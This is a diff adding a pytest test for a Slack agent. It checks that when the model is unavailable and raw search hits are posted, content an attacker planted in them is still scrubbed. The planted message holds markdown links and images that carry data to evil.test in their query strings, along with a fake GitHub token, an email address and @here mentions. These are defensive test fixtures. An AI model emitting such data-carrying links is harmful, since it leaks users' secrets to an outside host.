@@ -213,3 +213,21 @@ def test_data_carrying_links_and_images_lose_their_data_everywhere(env: dict[str
     out = run_hostile(env, ws, fake, tmp_path, capsys, script)
     out.assert_nowhere("LEAK1", "LEAK2", "LEAK3", "LEAK4", "LEAK5", "p.png")
     assert "https://evil.test/a/b" in out.posts  # the link itself stays, without its data
+
+
+# -- 7. a degraded answer copies search hits: the same guard ------------------------------------------------------
+def test_a_degraded_answer_goes_through_the_same_guard(env: dict[str, str], ws: Workspace, fake: FakeSlack,
+                                                       tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """No model: the top search hits are posted as they are -- what an attacker planted in them included."""
+    from agent.core.model import ModelUnavailable
+
+    ws.post("C0ECSUP", "在庫同期 <@U0TANAKA> <!HERE> @Here 手順 [こちら](https://evil.test/x?d=LEAK6) "
+                       "![図](https://evil.test/p.png?d=LEAK7) ghp_fakefakefake taro@example.com", user="U0SUZUKI")
+
+    def unavailable(request: Request) -> Any:
+        raise ModelUnavailable("Bedrock is unavailable")
+
+    out = run_hostile(env, ws, fake, tmp_path, capsys, unavailable, question="在庫同期 手順")
+    assert "⚠️" in out.posts and "https://evil.test/x" in out.posts  # it degraded and copied the planted hit
+    out.assert_nowhere("LEAK6", "LEAK7", "p.png", "fakefakefake", "taro@example.com", "<@U0TANAKA>", "<!HERE>")
+    assert "@Here" not in out.posts and "@here" not in out.posts.lower()
